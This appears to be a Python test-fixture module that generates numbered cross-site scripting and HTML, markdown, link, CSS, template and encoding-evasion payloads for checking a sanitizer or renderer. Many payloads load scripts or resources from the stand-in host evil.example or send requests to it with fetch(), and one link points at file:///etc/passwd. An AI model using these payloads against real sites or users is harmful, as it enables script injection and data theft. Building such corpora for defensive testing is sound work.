"""What an attacker would like a browser to run, to fetch from elsewhere or to show as something else, by families."""

from collections.abc import Iterator
from itertools import product
from typing import Final

EVIL: Final = "https://evil.example"
_TAGS: Final = (
    "<img src=x onerror={act}>",
    "<img src='{evil}/i.png' onload={act}>",
    "<svg onload={act}></svg>",
    "<svg><script>{act}</script></svg>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<iframe src='{evil}/f'></iframe>",
    "<iframe srcdoc='<script>{act}</script>'></iframe>",
    "<object data='{evil}/o'></object>",
    "<embed src='{evil}/e'>",
    "<video src='{evil}/v' onerror={act} autoplay></video>",
    "<audio src='{evil}/a' onerror={act} autoplay></audio>",
    "<input autofocus onfocus={act}>",
    "<details open ontoggle={act}>x</details>",
    "<body onload={act}>",
    "<marquee onstart={act}>x</marquee>",
    "<script>{act}</script>",
    "<script src='{evil}/s.js'></script>",
    "<link rel=stylesheet href='{evil}/l.css'>",
    "<link rel=prefetch href='{evil}/p'>",
    "<style>@import '{evil}/s.css';</style>",
    "<style>*{{background:url({evil}/b.png)}}</style>",
    "<div style=\"background-image:url('{evil}/d.png')\">x</div>",
    "<meta http-equiv=refresh content='0;url={evil}/m'>",
    "<base href='{evil}/'>",
    "<form action='{evil}/q'><button>x</button></form>",
    "<math><mtext><img src=x onerror={act}></mtext></math>",
    "<template><img src=x onerror={act}></template>",
    "<a href='javascript:{act}' autofocus>x</a>",
    "<button popovertarget=x onclick={act}>x</button>",
    "<picture><source srcset='{evil}/w.webp'><img src=x></picture>",
)
_BREAKS: Final = ('">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>", "</style>", "`}}")
_BROKEN_OUT: Final = ("<img src=x onerror={act}>", "<script>{act}</script>", "<iframe src={evil}></iframe>")
_MARKDOWN: Final = (
    "![x]({evil}/i.png)",
    "[x](javascript:{act})",
    "[x](data:text/html,<script>{act}</script>)",
    "[![x]({evil}/n.png)]({evil})",
    "![x][r]\n[r]: {evil}/r.png",
    "<{evil}/auto>",
    '[x]({evil} "onmouseover={act}")',
    "```html\n<script>{act}</script>\n```",
    "# <img src=x onerror={act}>",
    "| a |\n|---|\n| <img src=x onerror={act}> |",
    "[x](vbscript:{act})",
    "![x](//evil.example/i.png)",
)
_LINKS: Final = (
    "javascript:{act}",
    "JaVaScRiPt:{act}",
    "java\tscript:{act}",
    " javascript:{act}",
    "javascript&colon;{act}",
    "vbscript:{act}",
    "data:text/html,<script>{act}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "file:///etc/passwd",
    "//evil.example/x",
    "\\\\evil.example\\x",
    "{evil}/?q=<script>{act}</script>",
    "https://shop.example@evil.example/",
    "https://shop.example\u2044evil.example/",
    "blob:{evil}/1",
)
_STYLES: Final = (
    "x';background:url({evil}/c.png);'",
    "expression({act})",
    "</style><style>*{{display:none}}",
    "@import url({evil}/i.css);",
    "position:fixed;inset:0;z-index:9999",
    "-moz-binding:url({evil}/x)",
    "content:url({evil}/y)",
    "@font-face{{src:url({evil}/f)}}",
)
_ENCODED: Final = (
    "&lt;img src=x onerror={act}&gt;",
    "&#60;script&#62;{act}&#60;/script&#62;",
    "\\u003cscript\\u003e{act}\\u003c/script\\u003e",
    "%3Cscript%3E{act}%3C/script%3E",
    "\uff1cscript\uff1e{act}\uff1c/script\uff1e",
    "\u2039img src=x onerror={act}\u203a",
    "<scr\u200bipt>{act}</scr\u200bipt>",
    "<scr<script>ipt>{act}</scr</script>ipt>",
    "\u202egpj.<script>{act}</script>",
    "<ımg src=x onerror={act}>",
    "<\u0456mg src=x onerror={act}>",
    "\ufeff<script>{act}</script>",
)
_TEMPLATES: Final = (
    "{{{{ {act} }}}}",
    "{{% include '{evil}' %}}",
    "${{{act}}}",
    "<%= {act} %>",
    "#{{{act}}}",
    "[[{act}]]",
)
_QUOTES: Final = (
    '" onmouseover={act} x="',
    "' onfocus={act} autofocus x='",
    "`-{act}-`",
    "');{act};//",
    '\\";{act};//',
    "*/{act}/*",
    "\u2028{act}\u2029",
    '"}}</script><script>{act}</script>',
)
_ACTS: Final = ("alert({n})", "fetch('https://evil.example/{n}')", "document.title='pwned{n}'")


def payloads() -> tuple[str, ...]:
    """All of them, each with a number of its own."""
    return tuple(dict.fromkeys(one for one in _numbered()))


def _numbered() -> Iterator[str]:
    broken_out = [break_ + rest for break_, rest in product(_BREAKS, _BROKEN_OUT)]
    every = (*_TAGS, *broken_out, *_MARKDOWN, *_LINKS, *_STYLES, *_ENCODED, *_TEMPLATES, *_QUOTES)
    for number, form in enumerate((*every, *every)):
        act = _ACTS[(number + number // len(every)) % len(_ACTS)].format(n=number)
        yield form.format(act=act, evil=f"{EVIL}/{number}")
